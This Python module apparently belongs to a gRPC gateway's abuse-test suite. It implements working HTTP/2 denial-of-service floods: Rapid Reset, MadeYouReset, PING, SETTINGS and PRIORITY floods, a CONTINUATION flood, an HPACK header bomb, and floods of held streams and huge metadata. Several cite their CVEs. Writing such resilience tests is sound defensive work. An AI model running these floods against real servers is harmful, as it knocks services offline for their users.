"""Attacks by floods of frames, calls and header blocks."""

import asyncio
from collections.abc import Callable, Sequence
from functools import partial

from tests.abuse import frames, traffic
from tests.abuse.attack import AGAIN_AFTER_S, Attack, Outcome, Target, on_connections, paced, seen
from tests.abuse.frames import FRAME_BYTES, Flag, Kind, Setting, frame, literal, message
from tests.abuse.raw_client import RawClient
from tests.abuse.traffic import OTHER

CONNECTIONS = 5

# From some 3,000 a second on, more calls begin than the gateway can end, and gRPC's core drops some
# of the calls that wait for it, whose callers are told CANCELLED.
RESETS_PER_S = 2_000

# One unit of a flood, as bytes.
Unit = Callable[[RawClient], bytes]

# The index of the newest entry of HPACK's table, after the static table's 61 (RFC 7541, 2.3.3), as
# an indexed header (6.1).
_NEWEST = bytes([0x80 | 62])

_PSEUDO = b"".join(
    literal(*each)
    for each in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", traffic.CREATE),
        (":authority", "x"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    )
)


async def _flood(
    target: Target, *, unit: Unit, per_s: float, connections: int = CONNECTIONS, streams: int = 0
) -> Outcome:
    """Write units on all connections, `per_s` together; before that open calls on each."""

    async def work(client: RawClient) -> None:
        for _ in range(streams):
            await client.open(traffic.UPLOAD, OTHER)

        async def write(number: int) -> None:
            await client.write(b"".join(unit(client) for _ in range(number)))

        await paced(per_s / connections, write)

    return seen(await on_connections(target, connections, work))


def _rapid_reset(client: RawClient) -> bytes:
    stream, opening = client.opening(traffic.UPLOAD, OTHER)
    return opening + frames.reset(stream)


def _made_reset(client: RawClient) -> bytes:
    stream, opening = client.opening(traffic.UPLOAD, OTHER)
    return opening + frames.window_update(stream, 0)


def _refused(client: RawClient) -> bytes:
    stream, opening = client.opening(traffic.CREATE)
    return opening + frame(Kind.DATA, message(b""), flags=Flag.END_STREAM, stream=stream)


def _block(block: bytes) -> Unit:
    return lambda client: frames.header_frames(_PSEUDO + block, client.new_stream())


def _churn(values: Sequence[int]) -> Unit:
    made = b"".join(frames.settings({Setting.INITIAL_WINDOW_SIZE: value}) for value in values)
    return lambda _: made


async def _continuation(target: Target) -> Outcome:
    """Send header blocks that never end, a frame of FRAME_BYTES a time, 100 a second."""
    some = literal("x", "y" * 4000) * 4
    piece = frame(Kind.CONTINUATION, some[:FRAME_BYTES], stream=1)

    async def work(client: RawClient) -> None:
        await client.write(frame(Kind.HEADERS, _PSEUDO, stream=client.new_stream()))
        await paced(100 / CONNECTIONS, lambda number: client.write(piece * number))

    return seen(await on_connections(target, CONNECTIONS, work))


async def _held(
    target: Target, *, streams: int, fields_bytes: int, paths: Sequence[str]
) -> Outcome:
    """Open calls on one connection, without a message, and keep them."""
    more = literal("x-held", "y" * fields_bytes) if fields_bytes else b""

    async def work(client: RawClient) -> None:
        for number in range(streams):
            block = client.block(paths[number % len(paths)], OTHER) + more
            await client.write(frames.header_frames(block, client.new_stream()))
            if not number % 100:
                await asyncio.sleep(AGAIN_AFTER_S / 10)

    clients = await on_connections(target, 1, work)
    outcome = seen(clients)
    outcome.notes["limit of streams"] = clients[0].most_streams
    return outcome


async def _cancel_and_reopen(target: Target) -> Outcome:
    """Begin 1,000 uploads in a second, each cancelled as the next begins, 10 ms after it."""

    async def work(client: RawClient) -> None:
        begun: list[int] = []

        async def again(number: int) -> None:
            parts = [frames.reset(stream) for stream in begun]
            begun.clear()
            for _ in range(number):
                stream, opening = client.opening(traffic.UPLOAD, OTHER)
                header = traffic.header(traffic.post(), traffic.LARGE_BYTES).SerializeToString()
                parts += [opening, frame(Kind.DATA, message(header), stream=stream)]
                begun.append(stream)
            await client.write(b"".join(parts))

        await paced(1000 / CONNECTIONS, again)

    return seen(await on_connections(target, CONNECTIONS, work))


async def _tiny_chunks(target: Target, *, chunk: bytes) -> Outcome:
    """Send chunks in 20 uploads, 10,000 in a second."""
    one = message(traffic.chunk(chunk))

    async def upload(client: RawClient) -> None:
        its = await client.open(traffic.UPLOAD, OTHER)
        await client.send(its, message(traffic.header(traffic.post()).SerializeToString()))

        async def some(number: int) -> None:
            await client.send(its, one * number)

        sending = asyncio.create_task(paced(10_000 / 20, some))
        try:
            await client.streams[its].ended.wait()
        finally:
            sending.cancel()

    async def stream(client: RawClient) -> None:
        while True:
            await upload(client)
            await asyncio.sleep(AGAIN_AFTER_S)

    async def work(client: RawClient) -> None:
        await asyncio.gather(*(stream(client) for _ in range(20 // CONNECTIONS)))

    return seen(await on_connections(target, CONNECTIONS, work))


def _attack(name: str, about: str, unit: Unit, per_s: float, streams: int = 0) -> Attack:
    return Attack(
        name=name, about=about, run=partial(_flood, unit=unit, per_s=per_s, streams=streams)
    )


_UPLOAD_AND_CREATE = (traffic.UPLOAD, traffic.CREATE)

ATTACKS = (
    Attack(
        name="headers-only",
        about="10,000 calls of both methods without a message, on one connection",
        run=partial(_held, streams=10_000, fields_bytes=0, paths=_UPLOAD_AND_CREATE),
    ),
    Attack(
        name="held-metadata",
        about="2,000 calls without a message, on one connection, each with 24 KB of metadata",
        run=partial(_held, streams=2_000, fields_bytes=24_000, paths=_UPLOAD_AND_CREATE),
    ),
    Attack(
        name="health-watches",
        about="3,000 calls of health's Watch and of reflection without a message",
        run=partial(
            _held, streams=3_000, fields_bytes=0, paths=(traffic.WATCH, traffic.REFLECTION)
        ),
    ),
    _attack(
        "rapid-reset",
        "HEADERS and RST_STREAM at once, 2,000 times a second (CVE-2023-44487)",
        _rapid_reset,
        RESETS_PER_S,
    ),
    _attack(
        "made-you-reset",
        "HEADERS and a WINDOW_UPDATE of 0, 2,000 times a second (CVE-2025-8671)",
        _made_reset,
        2_000,
    ),
    Attack(
        name="cancel-and-reopen",
        about="1,000 uploads a second, cancelled after their header (grpc/grpc#43360: a leak each)",
        run=_cancel_and_reopen,
    ),
    _attack(
        "calls-without-token",
        "500 calls a second that have no token",
        _refused,
        500,
    ),
    _attack(
        "ping-flood",
        "20,000 PINGs a second (CVE-2019-9512)",
        lambda _: frame(Kind.PING, bytes(8)),
        20_000,
    ),
    _attack(
        "settings-flood",
        "20,000 SETTINGS a second (CVE-2019-9515)",
        lambda _: frames.settings({}),
        20_000,
    ),
    _attack(
        "window-churn",
        "400 changes a second of the initial window, with 200 calls on each connection",
        _churn([1, 1_000_000]),
        200,
        200,
    ),
    _attack(
        "empty-data",
        "20,000 empty DATA frames a second in an upload (CVE-2019-9518)",
        lambda _: frame(Kind.DATA, stream=1),
        20_000,
        1,
    ),
    _attack(
        "window-updates",
        "20,000 WINDOW_UPDATEs of 1 byte a second",
        lambda _: frames.window_update(1, 1),
        20_000,
        1,
    ),
    _attack(
        "priorities",
        "20,000 PRIORITY frames a second (CVE-2019-9513)",
        lambda _: frame(Kind.PRIORITY, bytes(4) + b"\x10", stream=1),
        20_000,
        1,
    ),
    Attack(
        name="continuation-flood",
        about="header blocks of CONTINUATION frames of 16 KiB that never end (CVE-2024-27316)",
        run=_continuation,
    ),
    _attack(
        "huge-metadata",
        "20 calls a second with 1 MB of metadata in one value",
        _block(literal("x-huge", "y" * 1_000_000)),
        20,
    ),
    _attack(
        "many-keys",
        "5 calls a second with 100,000 keys of metadata",
        _block(b"".join(literal(f"k{number}", "v") for number in range(100_000))),
        5,
    ),
    _attack(
        "header-bomb",
        "10 calls a second whose 16 KiB of headers stand for 64 MB (CVE-2016-6581)",
        _block(literal("x-bomb", "y" * 4_000, into_table=True) + _NEWEST * 16_000),
        10,
    ),
    Attack(
        name="empty-chunks",
        about="20 uploads of endless empty chunks, 10,000 a second together",
        run=partial(_tiny_chunks, chunk=b""),
    ),
    Attack(
        name="tiny-chunks",
        about="20 uploads of chunks of 1 byte, 10,000 a second together",
        run=partial(_tiny_chunks, chunk=b"x"),
    ),
)
